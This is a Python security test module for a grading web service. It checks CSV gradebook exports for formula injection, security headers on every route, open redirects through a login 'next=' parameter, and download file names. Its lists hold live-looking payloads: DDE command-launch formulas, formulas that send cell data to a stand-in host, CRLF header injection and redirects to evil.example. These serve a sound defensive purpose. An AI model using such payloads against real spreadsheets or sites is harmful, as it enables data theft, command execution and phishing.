"""Part ``exports``: what the service writes for others to open, tried with hostile input, against the real
web process (`python -m flask --app grader serve`) and the real CLI on a private instance folder.

- Formula injection: a roster of hostile names, e-mail addresses and student numbers (OWASP's and the
  issue's payloads) is imported through the web form; the gradebook CSV is downloaded from the web and
  written by `flask --app grader export-grades`; every cell a spreadsheet would evaluate is counted, and
  every score must still be a number.
- Headers: every request of the access matrix (faults/access.py: every route x credential) must carry the
  security headers; files a student controls must be plain text under a sandboxing CSP.
- The 500s: logins with hostile `next=` values must neither fail nor leave the site; cohorts with quotes,
  semicolons, control characters and non-Latin-1 names must export with the file name intact.
"""
from __future__ import annotations

import csv
import io
import os
import subprocess
import time
import urllib.parse
from pathlib import Path

from faults.report import Figure, ratio, zero
from grader.service.processes import run_flask
from support.http import Client, csrf_of, multipart, urlencoded

PART = "exports"
FORMULA_CHARS = "=+-@"
# Names a student could give the roster (the roster refuses control characters and strips spaces).
HOSTILE_NAMES = [
    '=HYPERLINK("http://x/?"&A3,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1", '"=1+1', '" @SUM(A1:A9)', "=cmd|' /C notepad'!'A1'", '=IMPORTXML(CONCAT("http://x/?v=",A2),"//a")',
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")', '=WEBSERVICE("http://x/")', "@A1", "+A1", "-A1",
    'a",=1+1,"b', "=1;=2", "Łódź =1+1", "'=1+1", "Kurs 学生", "Ann O'Neil",
]
HOSTILE_EMAILS = ["=1+{i}@x.invalid", "+{i}@x.invalid", "-{i}@x.invalid", '=HYPERLINK("x{i}")@x.invalid',
                  "plain{i}@x.invalid"]
# Cohort names: the web form takes printable ones, the CLI anything.
WEB_COHORTS = ['quote"d;filename=evil.exe', "semi;colon", "Łódź", "Kurs 学生", '=1+1 "x"', "back\\slash"]
CLI_COHORTS = ["new\nline", "carriage\r\nreturn", "tab\tname", "vertical\x0btab"]
HOSTILE_NEXT = [
    "/\r\nx", "/\r\nSet-Cookie: x=1", "http://evil.example/", "https://evil.example/a", "//evil.example",
    "///evil.example", "/\\evil.example", "\\\\evil.example", "/\t/evil.example", " //evil.example",
    "javascript:alert(1)", "data:text/html,x", "/\x00", "/\x7f", "/é", "/" + "a" * 5000,
    "http:evil.example", "https:/evil.example", "/\u2028//evil.example",
]
ON_SITE_NEXT = ["/tokens", "/account/password"]   # controls: these must be followed
HEADERS = {"x-frame-options": "DENY", "x-content-type-options": "nosniff"}
STUDENT_FILES = {"student.artifact", "student.source", "api.artifact"}


def live_formula(value) -> bool:
    """Whether a spreadsheet would evaluate this cell: text whose first character, also after spaces,
    tabs, line breaks and double quotes, starts a formula (or which starts with a tab or CR), that is not
    a plain number and not made text by a leading single quote."""
    if not isinstance(value, str) or not value or value.startswith("'"):
        return False
    if value[0] in "\t\r":
        return True
    body = value.lstrip(" \t\r\n\"")
    if not body or body[0] not in FORMULA_CHARS:
        return False
    try:
        float(value)
        return False
    except ValueError:
        return True


def read_export(text: str) -> tuple[list[str], list[list]]:
    """(header, rows) of a CSV export: quoted cells as str, unquoted cells as float (a non-numeric
    unquoted cell raises ValueError: the writer promised to quote every text cell)."""
    rows = list(csv.reader(io.StringIO(text), quoting=csv.QUOTE_NONNUMERIC))
    return [str(h) for h in rows[0]], rows[1:]


def check_export(text: str, names: dict[str, str]) -> dict:
    """Live formula cells, unquoted text, scores that are not numbers, and hostile names (by student
    number) missing or changed beyond a leading single quote, in one gradebook export."""
    try:
        header, rows = read_export(text)
    except ValueError as e:
        return {"cells": 0, "live": [], "unquoted_text": [str(e)], "scores_not_numbers": [], "altered": [],
                "graded": 0}
    col = {h: i for i, h in enumerate(header)}
    live = [c for r in rows for c in r if live_formula(c)] + [h for h in header if live_formula(h)]
    graded = [r for r in rows if r[col["status"]].startswith("graded")]
    not_numbers = [(r[col["username"]], f, r[col[f]]) for r in graded
                   for f in ("raw_score", "max_score", "final_score") if not isinstance(r[col[f]], float)]
    by_number = {r[col["student_number"]].removeprefix("'"): r[col["name"]] for r in rows}
    altered = [(num, by_number.get(num)) for num, name in names.items()
               if by_number.get(num) not in (name, "'" + name) or (live_formula(name) and by_number[num] == name)]
    return {"cells": sum(len(r) for r in rows), "live": live, "unquoted_text": [], "scores_not_numbers": not_numbers,
            "altered": altered, "graded": len(graded)}


def hostile_roster() -> tuple[bytes, dict[str, str]]:
    """The roster CSV (written quoted, as an attacker would need it to survive parsing) and the
    expected name per student number. Student numbers and e-mails start with formula characters too."""
    out = io.StringIO()
    w = csv.writer(out, quoting=csv.QUOTE_ALL, lineterminator="\n")
    w.writerow(["student_number", "name", "email"])
    names = {}
    for i, name in enumerate(HOSTILE_NAMES):
        number = f"-{i}" if i % 2 else f"F{i}"
        w.writerow([number, name, HOSTILE_EMAILS[i % len(HOSTILE_EMAILS)].format(i=i)])
        names[number] = name.strip()
    return out.getvalue().encode(), names


def flask_cli(instance: Path, *args: str, timeout: float = 120) -> subprocess.CompletedProcess:
    """`python -m flask --app grader ARGS` on `instance` (the caller's other GRADER_* settings hidden)."""
    env = {k: v for k, v in os.environ.items() if not k.startswith("GRADER_")}
    env["GRADER_INSTANCE_PATH"] = str(instance)
    return run_flask(env, *args, timeout=timeout)


def teacher_client(port: int, cookie: str) -> Client:
    """A client with the teacher's session cookie."""
    c = Client(port)
    c.cookies["session"] = cookie
    return c


def post_form(c: Client, path: str, fields: list[tuple], files: list[tuple] | None = None):
    """POST a form with the CSRF token of `c`'s session (from the tokens page)."""
    token = csrf_of(c.get("/tokens").text())
    if files:
        body, ctype = multipart([(n, None, v) for n, v in [("csrf_token", token)] + fields] + files)
    else:
        body, ctype = urlencoded([("csrf_token", token)] + fields)
    return c.request("POST", path, body, {"Content-Type": ctype})


def export_formulas(instance: Path, teacher: Client, world: dict) -> dict:
    """Import the hostile roster into cohort one through the web form, then export its gradebook from the
    web and the CLI and check both."""
    roster, names = hostile_roster()
    cid, aid = world["ids"]["cohort"], world["ids"]["assignment"]
    r = post_form(teacher, f"/instructor/cohorts/{cid}/roster", [], [("roster", "roster.csv", roster)])
    if r.status != 200 or f"{len(names)} enrolled" not in r.text():
        raise RuntimeError(f"the hostile roster was not imported: {r.status} {r.text()[:300]}")
    web = teacher.get(f"/instructor/assignments/{aid}/gradebook.csv")
    out = instance.parent / "grades.csv"
    cli = flask_cli(instance, "export-grades", str(aid), "-o", str(out))
    if cli.returncode != 0:
        raise RuntimeError(f"export-grades failed: {cli.stderr[-500:]}")
    checks = {"web": check_export(web.text(), names) if web.status == 200 else None,
              "cli": check_export(out.read_text(encoding="utf-8"), names)}
    return {"names": names, "checks": checks, "web_status": web.status}


def same_name(filename: str, cohort: str, suffix: str = "-lab1-grades.csv") -> bool:
    """Whether a download's file name is the cohort's: every letter and digit kept in order, nothing a
    file name cannot hold (control characters, path separators), the lab and kind after it."""
    stem = filename.removesuffix(suffix)
    return (filename.endswith(suffix) and filename.isprintable() and not set("/\\") & set(filename)
            and [c for c in stem if c.isalnum()] == [c for c in cohort if c.isalnum()])


def cohort_exports(app, instance: Path, teacher: Client) -> list[dict]:
    """Cohorts with hostile names (printable ones through the web forms, the others through the CLI),
    each with lab1; their gradebooks downloaded (file name checked) and exported by the CLI."""
    from werkzeug.http import parse_options_header

    from grader.service.models import Assignment, Cohort, db

    for name in WEB_COHORTS:
        r = post_form(teacher, "/instructor/cohorts", [("name", name)])
        if r.status != 303:
            raise RuntimeError(f"cohort {name!r} not created: {r.status}")
    for name in CLI_COHORTS:
        r = flask_cli(instance, "create-cohort", name)
        if r.returncode != 0:
            raise RuntimeError(f"create-cohort {name!r}: {r.stderr[-300:]}")
    with app.app_context():
        ids = {c.name: c.id for c in db.session.execute(db.select(Cohort)).scalars()}
    for name in WEB_COHORTS + CLI_COHORTS:
        r = post_form(teacher, f"/instructor/cohorts/{ids[name]}/assignments",
                      [("lab", "lab1"), ("deadline", "2031-01-01T00:00")])
        if r.status != 303:
            raise RuntimeError(f"no assignment for cohort {name!r}: {r.status}")
    with app.app_context():
        aids = {a.cohort.name: a.id for a in db.session.execute(db.select(Assignment)).scalars()}
    out = []
    for name in WEB_COHORTS + CLI_COHORTS:
        r = teacher.get(f"/instructor/assignments/{aids[name]}/gradebook.csv")
        value, params = parse_options_header(r.headers.get("content-disposition", ""))
        got = params.get("filename") or ""   # werkzeug decodes filename* (RFC 5987) into it
        cli = flask_cli(instance, "export-grades", f"{name}/lab1", "-o", str(instance.parent / "c.csv"))
        out.append({"cohort": name, "status": r.status, "disposition": value, "filename": got,
                    "name_ok": value == "attachment" and set(params) == {"filename"} and same_name(got, name),
                    "cli_exit": cli.returncode, "cli_error": cli.stderr[-200:] if cli.returncode else ""})
    return out


def off_site(location: str) -> bool:
    """Whether a browser could leave this site following `location` (read conservatively: anything but
    a plain path on this host, after browsers drop tabs and line breaks and read \\ as /)."""
    if not location:
        return False
    return (not location.startswith("/") or location.startswith("//") or "\\" in location
            or any(ch.isspace() or ord(ch) < 32 or ord(ch) == 127 for ch in location))


def hostile_logins(port: int, world: dict) -> list[dict]:
    """Log in as alice with each hostile `next=` and the on-site controls, sent percent-encoded as a link
    carries them (the first goes on the wire as the issue's `next=/%0D%0Ax`)."""
    out = []
    for target in HOSTILE_NEXT + ON_SITE_NEXT:
        c = Client(port)
        path = "/login?next=" + urllib.parse.quote(target, safe="/:")
        page = c.get(path)
        body, ctype = urlencoded([("csrf_token", csrf_of(page.text())), ("username", "alice"),
                                  ("password", world["passwords"]["alice"])])
        r = c.request("POST", path, body, {"Content-Type": ctype})
        loc = r.headers.get("location", "")
        out.append({"next": target[:60], "hostile": target not in ON_SITE_NEXT, "get": page.status,
                    "status": r.status, "location": loc[:80], "off_site": off_site(loc),
                    "logged_in": r.status == 302 and not loc.startswith("/login")})
        c.close()
    return out


def header_problems(endpoint: str, reply) -> list[str]:
    """What a response lacks of the security headers (and, for a student's file, of the sandbox)."""
    h = reply.headers
    missing = [f"{k}: {v}" for k, v in HEADERS.items() if h.get(k) != v]
    csp = h.get("content-security-policy", "")
    if "frame-ancestors 'none'" not in csp:
        missing.append("CSP frame-ancestors 'none'")
    if not h.get("referrer-policy"):
        missing.append("Referrer-Policy")
    if endpoint in STUDENT_FILES and 200 <= reply.status < 300:
        if "sandbox" not in csp or "default-src 'none'" not in csp:
            missing.append("sandboxing CSP")
        if not (h.get("content-type", "").startswith("text/plain")
                or h.get("content-disposition", "").startswith("attachment")):
            missing.append("text/plain or attachment")
    return missing


def matrix_headers(app, world: dict, callers, sessions, port: int) -> dict:
    """Every request of the access matrix, checked for the headers."""
    from faults import access

    attempts, unruled, _skipped = access.plan(app, world, callers, sessions)
    client = Client(port)
    bad, student_files, statuses = [], 0, {}
    for k, a in enumerate(attempts):
        r = access.send(a, client, k, world)
        statuses[r.status] = statuses.get(r.status, 0) + 1
        if a.endpoint in STUDENT_FILES and 200 <= r.status < 300:
            student_files += 1
        problems = header_problems(a.endpoint, r) if r.status > 0 else ["no answer"]
        if problems:
            bad.append({"method": a.method, "url": a.url, "caller": a.caller.label, "status": r.status,
                        "missing": problems})
    client.close()
    routes = sorted({a.endpoint for a in attempts})
    return {"requests": len(attempts), "routes": routes, "unruled": unruled, "bad": bad,
            "student_files": student_files, "statuses": statuses}


def measure(progress=print) -> dict:
    """Serve the access matrix's world and run the three checks."""
    from faults import access

    t0 = time.monotonic()
    with access.served_world(PART, progress) as (app, world, server, instance):
        callers, sessions = access.make_callers(app, world, server.port)
        teacher = teacher_client(server.port, sessions["teacher"].cookie)
        formulas = export_formulas(instance, teacher, world)
        progress(f"exports: hostile roster exported ({time.monotonic() - t0:.1f}s)")
        cohorts = cohort_exports(app, instance, teacher)
        logins = hostile_logins(server.port, world)
        progress(f"exports: {len(cohorts)} hostile cohorts, {len(logins)} logins with next= "
                 f"({time.monotonic() - t0:.1f}s)")
        headers = matrix_headers(app, world, callers, sessions, server.port)
        teacher.close()
        server.stop()
        exceptions = server.exceptions()
        all_routes = sorted({r.endpoint for r in app.url_map.iter_rules()})
    return report(formulas, cohorts, logins, headers, all_routes, exceptions, round(time.monotonic() - t0, 1))


def report(formulas, cohorts, logins, headers, all_routes, exceptions, elapsed) -> dict:
    """The part's figures and details."""
    checks = formulas["checks"]
    exports = [c for c in checks.values() if c is not None]
    with_live = [k for k, c in checks.items() if c is None or c["live"] or c["unquoted_text"]]
    not_numbers = [x for c in exports for x in c["scores_not_numbers"]]
    altered = [x for c in exports for x in c["altered"]]
    graded = min((c["graded"] for c in exports), default=0)
    errors = ([f"next={x['next']!r} -> {x['status']}" for x in logins if x["status"] >= 500 or x["get"] >= 500
               or x["status"] < 0]
              + [f"cohort {x['cohort']!r} -> {x['status']}" for x in cohorts if x["status"] >= 500 or x["status"] < 0]
              + [f"CLI export of {x['cohort']!r}: {x['cli_error']}" for x in cohorts if x["cli_exit"]])
    off = [x for x in logins if x["off_site"]]
    hostile = [x for x in logins if x["hostile"]]
    followed = [x for x in logins if not x["hostile"] and x["location"] == x["next"]]
    names_bad = [x for x in cohorts if x["status"] == 200 and not x["name_ok"]]
    uncovered = sorted(set(all_routes) - set(headers["routes"]))
    figures = [
        zero(PART, "CSV exports with live formula cells (gradebook from the web and from export-grades)",
             len(with_live), ", ".join(with_live) if with_live else
             f"{len(exports)} exports, {sum(c['cells'] for c in exports)} cells; {len(formulas['names'])} hostile "
             "names, e-mails and student numbers imported through the roster form"),
        zero(PART, "score cells of graded students not written as numbers", len(not_numbers),
             str(not_numbers[:3]) if not_numbers else f"{graded} graded students per export, 3 score cells each"),
        zero(PART, "hostile roster names lost or changed beyond the leading quote", len(altered),
             str(altered[:3]) if altered else ""),
        zero(PART, "responses without the security headers (every route x credential of the access matrix)",
             len(headers["bad"]),
             "; ".join(f"{b['method']} {b['url']} as {b['caller']} -> {b['status']} lacks {', '.join(b['missing'])}"
                       for b in headers["bad"][:3]) or
             f"{headers['requests']} responses over {len(headers['routes'])}/{len(all_routes)} routes"
             + (f" (not covered: {', '.join(uncovered)})" if uncovered else "")
             + f"; {headers['student_files']} student files served, each as sandboxed text/plain"),
        zero(PART, "server errors from hostile login next= values and cohort names (web and CLI)", len(errors),
             "; ".join(errors[:3]) + (f"; server log: {exceptions[0]}" if exceptions else "") if errors else
             f"{len(hostile)} hostile next= values and {len(ON_SITE_NEXT)} on-site ones, {len(cohorts)} cohort names "
             f"({len(CLI_COHORTS)} with control characters, via the CLI)"),
        zero(PART, "logins redirected off this site by next=", len(off),
             "; ".join(f"{x['next']!r} -> {x['location']!r}" for x in off[:3]) or
             f"{sum(x['logged_in'] for x in hostile)}/{len(hostile)} hostile ones logged in and went home"),
        ratio(PART, "on-site next= values followed after login (controls)", len(followed), len(ON_SITE_NEXT)),
        zero(PART, "gradebook downloads whose file name is not the cohort's (quotes, ;, non-Latin-1)", len(names_bad),
             "; ".join(f"{x['cohort']!r} -> {x['filename']!r}" for x in names_bad[:3])),
    ]
    if uncovered:
        figures.append(Figure(PART, "routes whose headers were not checked", str(len(uncovered)), "0", False,
                              ", ".join(uncovered)))
    return {"figures": [f.as_dict() for f in figures], "elapsed_s": elapsed, "exports": checks,
            "cohorts": cohorts, "logins": logins, "header_requests": headers["requests"],
            "header_statuses": headers["statuses"], "headers_missing": headers["bad"][:10],
            "server_log_exceptions": exceptions}
